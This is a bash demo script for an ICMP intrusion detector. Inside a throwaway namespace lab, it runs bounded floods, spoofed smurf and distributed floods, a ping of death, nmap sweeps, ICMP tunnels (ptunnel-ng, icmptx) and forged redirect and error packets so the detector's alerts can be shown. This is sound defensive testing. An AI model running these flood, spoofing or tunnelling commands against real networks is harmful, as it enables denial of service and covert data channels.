#!/bin/bash
# SPDX-License-Identifier: BSD-3-Clause
# The defending edge on the lan lab: real attack tools (ping -f, hping3,
# scapy, nmap, ptunnel-ng, icmptx) against the hosts while icmpkit watch
# runs on the victim h3 and on the router r1 and prints its alerts live.
# Every attack is bounded in packets and seconds; the lab is torn down on
# every exit path.
#   scripts/demo_watch.sh [BUILD]   BUILD: build directory (relative to the
#                                   source tree or absolute; default build)
set -uo pipefail
build=${1:-build}
here=$(cd "$(dirname "$0")/.." && pwd)
case $build in
/*) ik="$build/src/icmpkit" ;;
*) ik="$here/$build/src/icmpkit" ;;
esac
craft="$here/tests/lab/watch_craft.py"
py=/usr/bin/python3

if [ "$(id -u)" != 0 ]; then
	echo "demo_watch: the lab needs root (network namespaces); run 'sudo make demo'" >&2
	exit 2
fi
[ -x "$ik" ] || { echo "demo_watch: no icmpkit at $ik" >&2; exit 2; }
export ICMPKIT_LAB_DIR="$here/lab"

lab=ikwdemo$(( $$ % 100000 ))
pids=""
tmp=$(mktemp -d /tmp/ikwdemo.XXXXXX)
chmod 1777 "$tmp"
cleanup() {
	for p in $pids; do
		kill -TERM "$p" 2>/dev/null
	done
	for p in $pids; do
		wait "$p" 2>/dev/null
	done
	"$ik" lab down "$lab" >/dev/null 2>&1 || true
	rm -rf "$tmp"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
inlab() { "$ik" lab exec --name "$lab" "$@"; }
# bg OUT NODE -- CMD...: CMD in a lab node in the background, output to OUT;
# BG is lab exec itself (it execs CMD), so a kill of BG reaches CMD.
bg() {
	local out=$1
	shift
	"$ik" lab exec --name "$lab" "$@" >"$out" 2>&1 &
	BG=$!
}
# Runs one command in a lab node; its own output is indented under it.
step() {
	printf '\n$ %s\n' "$*"
	inlab "$@" 2>&1 | sed 's/^/    /' || true
	sleep 1.2
}
# Shows watch's alerts with a tag as they come, at most 3 per signature (a
# spoofed flood could otherwise fill the screen), then counts the rest.
show_alerts() {
	local tag=$1 line sid="" s
	declare -A n=()
	while IFS= read -r line; do
		if [[ $line =~ \[1:([0-9]+):[0-9]+\] ]]; then
			sid=${BASH_REMATCH[1]}
			n[$sid]=$((${n[$sid]:-0} + 1))
		fi
		[ "${n[$sid]:-0}" -le 3 ] && printf '  [%s] %s\n' "$tag" "$line"
	done
	for s in "${!n[@]}"; do
		[ "${n[$s]}" -gt 3 ] && printf '  [%s] ... and %d more %s alerts\n' "$tag" $((${n[$s]} - 3)) "$s"
	done
}

say "Bringing up the lan lab: h1 h2 h3 h4 attacker r1 on one LAN, far behind r1"
"$ik" lab up --name "$lab" lan >/dev/null || exit 1
"$ik" lab list | sed -n "/^$lab/,/^[^ ]/p" | sed '$d'

say "icmpkit watch on h3 (a LAN host, the victim) and on r1 (the router's LAN side)"
# Started directly (not through a function) so $! is watch itself.
"$ik" lab exec --name "$lab" h3 -- timeout 600 "$ik" watch -i eth0 --duration 590 \
	2> >(sed -u 's/^/  [h3 watch] /' >&2) > >(show_alerts "h3 watch") &
pids="$pids $!"
"$ik" lab exec --name "$lab" r1 -- timeout 600 "$ik" watch -i eth0 --duration 590 \
	2> >(sed -u 's/^/  [r1 watch] /' >&2) > >(show_alerts "r1 watch") &
pids="$pids $!"
sleep 1.5

say "Echo flood from one source: ping -f (20000 packets, at most 5 s)"
step attacker -- timeout 10 ping -n -q -f -c 20000 -w 5 10.0.5.13
say "Echo flood from one source: hping3 --flood (3 s)"
step attacker -- timeout 3 hping3 --icmp --flood -q -d 32 10.0.5.13
say "Distributed flood: hping3 --flood --rand-source, every packet from a new spoofed address (3 s)"
step attacker -- timeout 3 hping3 --icmp --flood --rand-source -q -d 32 10.0.5.13
say "Ping of death: 3 echo requests of 65628 bytes as real IPv4 fragments (scapy)"
step attacker -- "$py" "$craft" pod 10.0.5.66 10.0.5.13 3
say "Smurf: 200 echo requests to the broadcast 10.0.5.255, spoofed from h3; h1 and h2 answer h3"
step attacker -- timeout 5 hping3 --icmp -q -a 10.0.5.13 -d 32 -c 200 -i u5000 10.0.5.255
say "Sweep: nmap -sn -PE -PP -PM over 64 addresses behind r1"
step attacker -- timeout 30 nmap -n -sn -PE -PP -PM -T4 --max-retries 1 10.0.6.0/26

# tunnel NAME ARGS...: a ptunnel-ng proxy on far, its client on the
# attacker, 200 KB of TCP through it to a sink on far.
tunnel() {
	local port=$1
	shift
	bg "$tmp/sink" far -- timeout 20 "$py" "$craft" sink 10.0.6.2 5000 15
	local sink=$BG
	bg /dev/null far -- timeout 20 ptunnel-ng -r10.0.6.2 -R5000 -v 0 "$@"
	local proxy=$BG
	sleep 0.5
	bg /dev/null attacker -- timeout 20 ptunnel-ng -p10.0.6.2 -l"$port" -r10.0.6.2 -R5000 -v 0 "$@"
	local client=$BG
	sleep 0.5
	printf '\n$ ptunnel-ng -p10.0.6.2 -l%s -r10.0.6.2 -R5000%s; 200 KB into 127.0.0.1:%s\n' "$port" "${*:+ $*}" "$port"
	inlab attacker -- timeout 15 "$py" "$craft" send 127.0.0.1 "$port" 200000 12 >/dev/null 2>&1
	wait "$sink"
	printf '    the sink on far received %s bytes\n' "$(cat "$tmp/sink")"
	kill "$client" "$proxy" 2>/dev/null
	wait "$client" "$proxy" 2>/dev/null
	sleep 1.2
}
say "TCP over ICMP: ptunnel-ng (default magic) from the attacker to far"
tunnel 2222
say "TCP over ICMP: ptunnel-ng -m 0x1badf00d (no known magic: only its behaviour gives it away)"
tunnel 2223 -m 0x1badf00d

say "IP over ICMP: icmptx between the attacker (10.9.9.2) and far (10.9.9.1), 100 KB of TCP through it"
inlab far -- sysctl -qw net.ipv4.icmp_echo_ignore_all=1
bg /dev/null far -- timeout 20 icmptx -s 10.0.6.2
txs=$BG
bg /dev/null attacker -- timeout 20 icmptx -c 10.0.6.2
txc=$BG
for i in $(seq 50); do
	inlab far -- ip link show tun0 >/dev/null 2>&1 && inlab attacker -- ip link show tun0 >/dev/null 2>&1 && break
	sleep 0.1
done
inlab far -- ip addr add 10.9.9.1/24 dev tun0 && inlab far -- ip link set tun0 up
inlab attacker -- ip addr add 10.9.9.2/24 dev tun0 && inlab attacker -- ip link set tun0 up
bg "$tmp/sink" far -- timeout 15 "$py" "$craft" sink 10.9.9.1 5001 12
sink=$BG
sleep 0.5
printf '\n$ icmptx -c 10.0.6.2 (tun0 10.9.9.2); 100 KB to 10.9.9.1:5001\n'
inlab attacker -- timeout 12 "$py" "$craft" send 10.9.9.1 5001 100000 10 >/dev/null 2>&1
wait "$sink"
printf '    the sink on far received %s bytes\n' "$(cat "$tmp/sink")"
kill "$txc" "$txs" 2>/dev/null
wait "$txc" "$txs" 2>/dev/null
inlab far -- sysctl -qw net.ipv4.icmp_echo_ignore_all=0
sleep 1.2

say "Forged errors from the attacker to h3 (scapy)"
inlab h3 -- ping -n -q -c 1 -W 1 10.0.5.66 >/dev/null 2>&1
bg /dev/null h3 -- timeout 6 "$py" "$craft" udp-hold 10.0.5.13 41000 10.0.6.2 53 3
hold=$BG
sleep 0.5
step attacker -- "$py" "$craft" redirect 10.0.5.1 10.0.5.13 10.0.6.2 10.0.5.66
printf '    h3 now routes far as: %s\n' "$(inlab h3 -- ip route get 10.0.6.2 | head -n 1)"
wait "$hold"
inlab h3 -- ip route flush cache
step attacker -- "$py" "$craft" blind-tcp 10.0.6.2 10.0.5.13 40123
step attacker -- "$py" "$craft" small-mtu 10.0.6.2 10.0.5.13 296
step attacker -- "$py" "$craft" err-err 10.0.6.2 10.0.5.13

say "Everyday ICMP, for contrast: ping and traceroute from h3 to far (no alert expected)"
step h3 -- ping -n -c 3 -i 0.2 10.0.6.2
step h3 -- traceroute -n -q 1 -w 1 10.0.6.2

say "Stopping the watches (each prints its totals)"
for p in $pids; do
	kill -TERM "$p" 2>/dev/null
done
for p in $pids; do
	wait "$p" 2>/dev/null
done
pids=""
sleep 0.3
say "Tearing the lab down"
